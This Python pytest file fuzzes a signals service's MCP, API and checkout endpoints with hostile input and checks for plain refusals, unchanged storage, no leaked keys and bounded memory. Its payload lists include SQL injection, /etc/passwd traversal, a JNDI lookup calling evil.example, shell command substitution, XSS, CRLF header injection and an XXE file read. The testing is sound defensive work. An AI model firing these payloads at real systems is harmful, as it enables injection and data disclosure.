"""Hostile values get a plain error or a result, and a refused request leaves nothing behind."""

import gc
import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import httpx
import pytest

from mcp_server.tools.tool_table import TOOLS
from serving.arguments import get_argument_schemas
from serving.json_text import MAX_LEVELS, MAX_VALUES, has_json_excess
from serving.tool_runner import AnyTool
from tests.security.wire import (
    HOST,
    LAST,
    collector_off as collector_off,
    exchange_bytes,
    parse_statuses,
)
from tests.support.bad_inputs import PATHS, STATE, build_call
from tests.support.running_service import RunningService, served as served
from tests.support.signals_command import find_free_port, start_signals

PAYLOADS = [
    *(
        "'",
        '"',
        "BTC' OR '1'='1",
        "BTC'; DROP TABLE changes;--",
        "1 UNION SELECT key_hash FROM keys",
    ),
    *("%", "_", "*", "BTC\x00", "%00", "\x00", "../../../../etc/passwd", "..\\..\\boot.ini"),
    *("file:///etc/passwd", "/etc/passwd%00.json", "{{7*7}}", "${jndi:ldap://evil.example}"),
    *("$(id)", "`id`", "%s%n%x", "<script>alert(1)</script>", "x" * 5_000, "BTC," * 1_000 + "ETH"),
    *("\u202eCTB", "B\u200bTC", "\ufeffBTC", "\U0001f600", "\u0130", "\uff11\uff12", "\ue000"),
    *("BTC\r\nSet-Cookie: a=b", "a\nlevel=info event=forged", "\x1b[31mred", "\u2028", "\x85"),
    *("NaN", "1e999", "-0", "0x10", "true", "null", "[]", "9" * 5_000, "9999-12-31T23:59:59-23:59"),
]
# Only JSON can represent this value.
LONE_SURROGATE = "\ud800"
VALUES = [
    *(0, -1, 2**63, 2**64, 10**300, -1e-300, 1e308, True, False, None, [], {}, ["BTC"], {"a": 1}),
    [[[[[]]]]],
]
HOSTILE = [*PAYLOADS, LONE_SURROGATE, *VALUES]


def dump_store(folder: Path, *, without: frozenset[str] = frozenset()) -> list[str]:
    """Return the schema and all rows of both files of a store, except for some tables."""
    skipped = tuple(f'INSERT INTO "{table}"' for table in without)
    lines: list[str] = []
    for name in ("market.db", "market.db-access"):
        with closing(sqlite3.connect(folder / name)) as db:
            lines += [line for line in db.iterdump() if not line.startswith(skipped)]
    return lines


ERROR = {"error", "message", "docs"}
COUNTED = frozenset({"usage"})
SALES = frozenset({"usage", "claims", "attempts", "access_requests", "sandbox_sessions"})
CHECKOUT, CLAIM, REQUEST = (
    "/api/v1/access/checkout",
    "/api/v1/access/claim",
    "/api/v1/access-request",
)
FIELDS = [
    *((CHECKOUT, name) for name in ("contact_email", "billing", "agent_name")),
    (CLAIM, "claim_token"),
    *((REQUEST, name) for name in ("contact_email", "agent_name", "operator", "use_case")),
    (REQUEST, "expected_volume"),
]
LONGEST_QUERY = 8_000
HEADERS = [
    *("Authorization", "X-Api-Key", "Accept", "Content-Type", "Origin", "MCP-Protocol-Version"),
    *("X-Forwarded-For", "X-Original-URL", "User-Agent", "Cookie", "Mcp-Session-Id", "Range"),
]
PING = {"jsonrpc": "2.0", "id": 1, "method": "ping"}


def is_plain(body: dict[str, Any]) -> bool:
    """Check that a response is the error body, with a short message on one line."""
    assert set(body) - {"how_to_get_access"} == ERROR, body
    assert body["message"].isprintable(), body
    assert len(body["message"]) < 2_500, body
    return True


def is_refused_or_answered(response: httpx.Response, statuses: tuple[int, ...]) -> bool:
    assert response.status_code in statuses, response.text[:500]
    assert response.headers["content-type"] == "application/json"
    return response.status_code < 400 or is_plain(response.json())


def is_result(response: httpx.Response) -> bool:
    """Check that the MCP endpoint returns a result, or an error with status 400."""
    result = json.loads(response.content)["result"]
    if not result["isError"]:
        return True
    assert result["_meta"]["signals/status"] == 400, result
    return is_plain(json.loads(result["content"][0]["text"]))


def given_to(tool: AnyTool, values: list[Any]) -> Iterator[dict[str, Any]]:
    """Yield each value in each argument without an enum, in all at once, and as a name."""
    schemas = get_argument_schemas(tool.query)
    for value in values:
        yield from ({name: value} for name in schemas if "enum" not in schemas[name])
        yield dict.fromkeys(schemas, value)
        yield {str(value): value}


# Except in `make prove`, each value is tried on only one of the tools.
@pytest.mark.clause("endpoint")
@pytest.mark.parametrize("share", [len(TOOLS), pytest.param(1, marks=pytest.mark.prove)])
@pytest.mark.parametrize("number", range(len(TOOLS)))
async def test_a_tool_refuses_or_answers_any_hostile_argument(
    served_alone: RunningService, tmp_path: Path, number: int, share: int
):
    tool, before = TOOLS[number], dump_store(tmp_path, without=COUNTED)
    for arguments in given_to(tool, HOSTILE[number % share :: share]):
        body = build_call(tool.name, arguments)
        assert is_result(await served_alone.post_mcp(body, **served_alone.key_headers))
        query = urlencode(arguments, errors="surrogatepass")
        answer = await served_alone.get_api(f"{PATHS[tool.name]}?{query[:LONGEST_QUERY]}")
        assert is_refused_or_answered(answer, (200, 400))
    assert dump_store(tmp_path, without=COUNTED) == before


@pytest.mark.clause("endpoint")
@pytest.mark.parametrize("share", [len(FIELDS), pytest.param(1, marks=pytest.mark.prove)])
@pytest.mark.parametrize("number", range(len(FIELDS)))
async def test_a_field_of_a_purchase_is_refused_or_taken_and_gives_no_key(
    served_alone: RunningService, tmp_path: Path, number: int, share: int
):
    before = dump_store(tmp_path, without=SALES)
    path, name = FIELDS[number]
    least = {} if path == CLAIM else {"contact_email": "agent@example.com"}
    for value in HOSTILE[number % share :: share]:
        for body in ({name: value}, {str(value): value}):
            served_alone.clock.now += 600_000
            answer = await served_alone.client.post(path, content=json.dumps(least | body))
            assert is_refused_or_answered(answer, (200, 201, 400, 404))
            assert "api_key" not in answer.text
    assert dump_store(tmp_path, without=SALES) == before


@pytest.mark.clause("endpoint")
async def test_no_path_leads_outside_the_served_files(served: RunningService):
    for payload in PAYLOADS:
        for folder in ("/", "/api/v1/", "/web/", "/sandbox/checkout/"):
            path = folder + quote(payload[:300].encode(), safe="")[:1_000]
            answer = await served.client.get(path)
            assert answer.status_code == 404, path
            assert is_plain(answer.json())


@pytest.mark.clause("endpoint")
@pytest.mark.parametrize(
    "target",
    [
        *(b"/api/v1/../../etc/passwd", b"/web/../../etc/passwd", b"/web/%2e%2e/page.html"),
        *(b"/web//page.css", b"/web/page.css%00.html", b"/api/v1/state%3fticker=BTC", b"*", b"//"),
        *(b"/%2e%2e/%2e%2e/etc/passwd", b"/%ff%fe", b"/%", b"/" + b"a" * 1_000),
    ],
)
async def test_a_raw_path_is_not_normalized(served: RunningService, target: bytes):
    sent = b"GET %s HTTP/1.1\r\n%s\r\n" % (target, HOST) + LAST
    assert parse_statuses(await exchange_bytes(served.base_url, sent)) == [404, 200]


@pytest.mark.clause("endpoint")
@pytest.mark.parametrize("name", HEADERS)
@pytest.mark.sampled(3)
async def test_a_hostile_header_is_refused_or_ignored(served_alone: RunningService, name: str):
    for payload in PAYLOADS:
        value = payload[:3_000].encode()
        if not set(b"\x00\r\n") & set(value):
            answer = await served_alone.client.post(
                "/api/v1/mcp", json=build_call(STATE), headers=[(name.encode(), value)]
            )
            assert answer.status_code in (200, 400, 403, 406, 415)
            assert "Traceback" not in answer.text


@pytest.mark.clause("endpoint")
@pytest.mark.parametrize(
    "head",
    [
        b"GET /" + b"a" * 300_000 + b" HTTP/1.1\r\n",
        b"GET / HTTP/1.1\r\n" + HOST + b"X-A: " + b"a" * 300_000 + b"\r\n",
        b"GET / HTTP/1.1\r\n" + HOST + b"X-A: a\r\n" * 50_000,
    ],
    ids=["path", "header", "headers"],
)
async def test_a_head_without_end_is_refused_and_closed(served: RunningService, head: bytes):
    # If the client is still sending when the connection closes, the error may be lost.
    assert parse_statuses(await exchange_bytes(served.base_url, head)) in ([414], [431], [])
    assert (await served.client.get("/api/v1/signals/sample")).status_code == 200


@pytest.mark.clause("endpoint")
async def test_very_many_parameters_are_refused_with_a_short_message(served: RunningService):
    many = "&".join(f"x{number}={number}" for number in range(700))
    sent = ("ticker=" + "A" * 8_000, "=" * 8_000, "x" * 8_000)
    for query, status in [(many, 414), ("&" * 8_000 + "x=1", 414), *((one, 400) for one in sent)]:
        answer = await served.get_api(f"/state?{query}")
        assert answer.status_code == status
        assert is_plain(answer.json())


NOT_JSON = {
    "nothing": b"",
    "a brace": b"{",
    "a byte order mark alone": b"\xef\xbb\xbf",
    "Infinity within": b'{"jsonrpc":"2.0","id":1,"method":"ping","params":{"a":-Infinity}}',
    "a number of 5,000 digits": b'{"jsonrpc":"2.0","method":"ping","id":%s}' % (b"9" * 5_000),
    "NaN": b'{"jsonrpc":"2.0","method":"ping","id":NaN}',
    "Infinity": b'{"jsonrpc":"2.0","method":"ping","id":-Infinity}',
    "NUL bytes": b"\x00" * 100,
    "a NUL in a text": b'{"jsonrpc":"2.0","method":"pi\x00ng","id":1}',
    "a byte order mark twice": b"\xef\xbb\xbf" * 2 + json.dumps(PING).encode(),
    "UTF-16": json.dumps(PING).encode("utf-16"),
    "bytes that are no UTF-8": b'{"jsonrpc":"2.0","method":"\xc0\xae","id":1}',
    "an encoded surrogate": b'{"jsonrpc":"2.0","method":"\xed\xa0\x80","id":1}',
    "two objects": json.dumps(PING).encode() * 2,
    "a comment": b'{"jsonrpc":"2.0","method":"ping","id":1}//',
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
}
# Deeper than any parser's limit, and within the limit of bodies.
DEEP = 10_000
MALFORMED = {
    "deep arrays": b"[" * DEEP + b"]" * DEEP,
    "deep objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "a name twice": b'{"jsonrpc":"2.0","method":"ping","method":"tools/list","id":1}',
    "an argument twice": b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":'
    b'{"name":"signals_get_catalog","arguments":{"ticker":"BTC","ticker":"ETH"}}}',
    "a name twice in a list": b'{"jsonrpc":"2.0","method":"ping","id":1,"params":[{"b":1,"b":1}]}',
    "a name twice, once escaped": b'{"jsonrpc":"2.0","method":"ping","id":1,"\\u0069d":1}',
    "a name twice, once apart from its colon": b'{"jsonrpc":"2.0","method":"ping","id":1,"id" :1}',
    "a name twice beside a colon in a text": b'{"jsonrpc":"2.0","method":"ping","id":":","id":1}',
    "an id beyond all numbers": b'{"jsonrpc":"2.0","method":"ping","id":1e999}',
    "a batch of batches": b"[[[]]]",
}


@pytest.mark.clause("endpoint", "4.14.11", "7.34")
@pytest.mark.parametrize("body", NOT_JSON.values(), ids=NOT_JSON)
async def test_invalid_json_is_a_parse_error(served: RunningService, body: bytes):
    answer = await served.post_mcp(body)
    assert (answer.status_code, answer.json()["id"]) == (200, None)
    assert answer.json()["error"]["code"] == -32700
    for path in (CHECKOUT, CLAIM, REQUEST):
        answer = await served.client.post(path, content=body)
        assert answer.status_code == 400
        assert is_plain(answer.json())


@pytest.mark.clause("endpoint")
@pytest.mark.parametrize("body", MALFORMED.values(), ids=MALFORMED)
async def test_ambiguous_json_is_refused(served: RunningService, body: bytes):
    assert (await served.post_mcp(body)).json()["error"]["code"] == -32600


@pytest.mark.clause("endpoint")
@pytest.mark.prove
async def test_hostile_methods_names_and_ids_are_handled_like_any_text(served: RunningService):
    for payload in (*PAYLOADS, LONE_SURROGATE):
        answer = await served.post_mcp({**PING, "id": payload})
        assert json.loads(answer.content) == {"jsonrpc": "2.0", "id": payload, "result": {}}
        unknown = await served.rpc(payload)
        assert unknown["error"]["code"] == -32601
        called = await served.rpc("tools/call", {"name": payload})
        assert called["error"]["code"] == -32602
        for error in (unknown["error"], called["error"]):
            assert error["message"].isprintable()
            assert len(error["message"]) < 300


MCP = "/api/v1/mcp"
BODY_BYTES = 58_000
MANY_NAMES = {f"n{number}": [1] for number in range(950)}
MAX_RSS_KB = 150_000


# The path and body of requests that are refused, at the bounds of what is read and beyond.
REFUSED: dict[str, tuple[str, bytes]] = {
    "unknown arguments": (MCP, json.dumps(build_call(STATE, MANY_NAMES)).encode()),
    "a long argument": (MCP, json.dumps(build_call(STATE, {"ticker": "x" * BODY_BYTES})).encode()),
    "too many arguments": (MCP, json.dumps(build_call(STATE, {"a": [{}] * 19_000})).encode()),
    "an unknown method": (
        MCP,
        json.dumps({**build_call(STATE, {}), "method": "x" * BODY_BYTES}).encode(),
    ),
    "a malformed id": (MCP, json.dumps({**build_call(STATE, {}), "id": [0] * 1_900}).encode()),
    "not JSON": (MCP, b'{"a":' + b'"\\"' * 19_000),
    "many fields of a checkout": (CHECKOUT, json.dumps(MANY_NAMES).encode()),
    "a long address": (CHECKOUT, json.dumps({"contact_email": "a" * BODY_BYTES}).encode()),
    "a list in a claim": (CLAIM, json.dumps({"claim_token": [{}] * 19_000}).encode()),
}


@pytest.mark.clause("endpoint")
@pytest.mark.usefixtures("collector_off")
@pytest.mark.parametrize("path_and_body", REFUSED.values(), ids=list(REFUSED))
async def test_a_refusal_keeps_no_object_of_its_request(
    served_alone: RunningService, path_and_body: tuple[str, bytes]
) -> None:
    path, body = path_and_body
    headers = {"Content-Type": "application/json"}

    async def count_kept(requests: int) -> int:
        for _ in range(requests):
            response = await served_alone.client.post(path, content=body, headers=headers)
            assert len(response.content) < 4_000
        # A cycle of an error would keep its frames, and these the arguments.
        kept = [one for one in gc.get_objects() if isinstance(one, dict | list) and len(one) > 900]
        return len(kept)

    kept_before = await count_kept(2)
    assert await count_kept(10) <= kept_before


@pytest.mark.clause("endpoint")
@pytest.mark.parametrize(
    ("text", "is_refused"),
    [
        ("[" + ",".join(["1"] * (MAX_VALUES - 1)) + "]", False),
        ("[" + ",".join(["1"] * MAX_VALUES) + "]", True),
        ("[" + ",".join(["{}"] * (MAX_VALUES - 1)) + "]", False),
        ("[" + ",".join(["{ }"] * MAX_VALUES) + "]", True),
        ("{" + ",".join(['"a":[]'] * MAX_VALUES) + "}", True),
        ("[" * MAX_LEVELS + "]" * MAX_LEVELS, False),
        ("[" * (MAX_LEVELS + 1) + "]" * (MAX_LEVELS + 1), True),
        ('{"a":' * MAX_LEVELS + "1" + "}" * MAX_LEVELS, False),
        ('["' + ",[{" * 9_000 + '"]', False),
        ('["' + '\\",' * 9_000 + '"]', False),
        ('["' + "\\\\" * 9_000 + '"]', False),
        ('"' + '\\"' * 9_000 + "\\", False),  # its string never ends
        ("]" * 9_000, False),  # invalid, so the parser refuses it
    ],
)
def test_values_and_levels_are_counted_outside_of_strings(text: str, is_refused: bool) -> None:
    assert has_json_excess(text.encode()) is is_refused


@pytest.mark.clause("endpoint")
@pytest.mark.parametrize("path_and_body", REFUSED.values(), ids=list(REFUSED))
async def test_a_caller_without_a_key_learns_nothing_of_its_arguments(
    served_alone: RunningService, path_and_body: tuple[str, bytes]
) -> None:
    path, body = path_and_body
    response = await served_alone.client.post(path, content=body)
    assert b"x" * 101 not in response.content
    assert b"a" * 101 not in response.content


@pytest.mark.clause("endpoint")
@pytest.mark.parametrize("count", [300, pytest.param(2_000, marks=pytest.mark.prove)])
@pytest.mark.prove
def test_refused_bodies_leave_the_memory_of_the_service_small(tmp_path: Path, count: int) -> None:
    port = find_free_port()
    with start_signals(tmp_path, "serve", "--no-compute", port=port) as process:
        process.wait_for_line("Listening on ")
        with httpx.Client(base_url=f"http://127.0.0.1:{port}") as client:
            for number in range(count):
                path, body = list(REFUSED.values())[number % len(REFUSED)]
                client.post(path, content=body, headers={"Content-Type": "application/json"})
        status = Path(f"/proc/{process.process.pid}/status").read_text()
    (rss,) = (line.split()[1] for line in status.splitlines() if line.startswith("VmRSS"))
    assert int(rss) < MAX_RSS_KB
